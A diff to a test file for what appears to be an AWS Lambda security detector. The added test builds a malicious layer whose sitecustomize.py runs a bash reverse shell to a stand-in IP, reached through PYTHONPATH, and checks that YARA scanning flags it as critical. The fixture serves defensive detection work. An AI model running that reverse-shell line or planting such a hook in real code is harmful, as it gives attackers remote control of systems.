@@ -147,6 +147,7 @@ def test_hook_env_resolved_in_layer(builder: CaseBuilder) -> None:
     assert len(found) == 1
     finding = found[0]
     assert finding.resource == ARN + ":$LATEST" and finding.severity is Severity.HIGH
+    assert finding.details["yara"] == []
     assert finding.evidence[0].path == entry.path
     assert finding.evidence[1].path == blob.path and finding.evidence[1].member == "bin/wrap.sh"
 
@@ -384,3 +385,24 @@ def test_weighted_alias_canary_to_newest_release_is_low(builder: CaseBuilder) ->
     )
     found = run_detector(builder, cfg_weighted_alias.DETECTOR)
     assert [(f.severity, f.details["canary"]) for f in found] == [(Severity.LOW, True)]
+
+
+def test_hook_target_scanned_with_yara(builder: CaseBuilder) -> None:
+    layer_arn = f"arn:aws:lambda:{REGION}:{ACCOUNT}:layer:evil:1"
+    builder.layer(
+        layer_arn,
+        zip_bytes(
+            {
+                "evil/sitecustomize.py": "import os\n"
+                "os.system('bash -i >& /dev/tcp/203.0.113.5/9 0>&1')\n"
+            }
+        ),
+    )
+    builder.versions(
+        "orders", [function_config("orders", env={"PYTHONPATH": "/opt/evil"}, layers=[layer_arn])]
+    )
+    found = run_detector(builder, cfg_hook_env.DETECTOR)
+    assert [(f.severity, f.details["yara"]) for f in found] == [
+        (Severity.CRITICAL, ["LIR_Reverse_Shell in evil/sitecustomize.py"])
+    ]
+    assert found[0].evidence[1].member == "evil/sitecustomize.py"
